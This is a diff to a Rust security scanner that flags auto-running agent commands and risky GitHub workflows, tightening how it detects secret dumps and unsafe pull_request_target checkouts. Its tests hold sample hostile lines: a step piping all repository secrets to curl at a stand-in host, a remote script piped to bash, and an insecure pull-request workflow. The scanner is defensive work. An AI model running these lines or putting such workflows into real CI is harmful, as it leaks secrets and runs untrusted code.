@@ -65,7 +65,10 @@ pub(crate) fn auto_run(
         Run::Hook => (id::AgentHooks, "on the agent's events in every session"),
         Run::Settings => (id::AgentHooks, "whenever the agent's client needs it"),
         Run::Server => (id::McpRegistration, "whenever the agent's client starts"),
-        Run::Tool => (id::AutoRunCommand, "without anyone asking"),
+        Run::Tool => (
+            id::AutoRunCommand,
+            "as part of a routine step (an install, a build, a commit, opening the folder), not as a command anyone chose",
+        ),
         Run::Asked => return,
     };
     let severity = match worst {
@@ -80,7 +83,7 @@ pub(crate) fn auto_run(
         rule,
         severity,
         0..command.len(),
-        format!("{what} runs {when}, and its command reaches the network or secrets or does what another finding here reports"),
+        format!("{what} runs {when}, and what it runs reaches the network or secrets, or does what another finding here reports"),
     );
 }
 
@@ -435,11 +438,28 @@ fn pth(ctx: &mut Ctx<'_>, unit: &Unit<'_>) {
 /// where it runs with the repository's secrets.
 fn workflow(ctx: &mut Ctx<'_>, unit: &Unit<'_>) {
     let text = unit.text;
-    let compact: String = text.chars().filter(|c| !c.is_whitespace()).collect();
-    if let Some(at) = text
-        .find("toJSON(secrets)")
-        .or_else(|| text.find("toJson(secrets)"))
-    {
+    // What the workflow says, not its comments, without blanks.
+    let mut code = String::with_capacity(text.len());
+    let mut trigger = None;
+    let mut at = 0;
+    for line in text.split_inclusive('\n') {
+        let start = at;
+        at += line.len();
+        let body = line.trim_start();
+        if body.starts_with('#') {
+            continue;
+        }
+        let item = body.trim_start_matches("- ").trim_start();
+        if trigger.is_none()
+            && (item.starts_with("pull_request_target")
+                || item.starts_with("on:") && item.contains("pull_request_target"))
+        {
+            trigger = Some(start + line.find("pull_request_target").unwrap_or(0));
+        }
+        code.extend(line.chars().filter(|c| !c.is_whitespace()));
+    }
+    if code.to_ascii_lowercase().contains("tojson(secrets)") {
+        let at = text.find("(secrets)").map_or(0, |i| i.saturating_sub(6));
         ctx.report(
             unit,
             id::CiSecretsExposure,
@@ -448,10 +468,8 @@ fn workflow(ctx: &mut Ctx<'_>, unit: &Unit<'_>) {
             "hands every secret of the repository to one step at once".into(),
         );
     }
-    if text.contains("pull_request_target")
-        && (compact.contains("github.event.pull_request.head.")
-            || compact.contains("github.head_ref"))
-        && let Some(at) = text.find("pull_request_target")
+    if let Some(at) = trigger
+        && (code.contains("github.event.pull_request.head.") || code.contains("github.head_ref"))
     {
         ctx.report(
             unit,
@@ -627,6 +645,8 @@ mod tests {
     fn workflows() {
         let dump = "on: [push]\njobs:\n  b:\n    steps:\n      - run: |\n          echo '${{ toJSON(secrets) }}' | curl -s -d @- https://w.example.net/a\n";
         assert!(worst(".github/workflows/ci.yml", dump, "SK762") >= Some(Severity::High));
+        let comment = "# A `pull_request_target` variant checked out github.event.pull_request.head.sha\non: [pull_request]\n";
+        assert_eq!(worst(".github/workflows/c.yml", comment, "SK762"), None);
         let prt = "on: pull_request_target\njobs:\n  t:\n    steps:\n      - uses: actions/checkout@v4\n        with:\n          ref: ${{ github.event.pull_request.head.sha }}\n      - run: npm test\n";
         assert!(worst(".github/workflows/t.yml", prt, "SK762") >= Some(Severity::High));
         let step = "jobs:\n  b:\n    steps:\n      - name: x\n        run: curl -s http://203.0.113.2/p | bash\n";
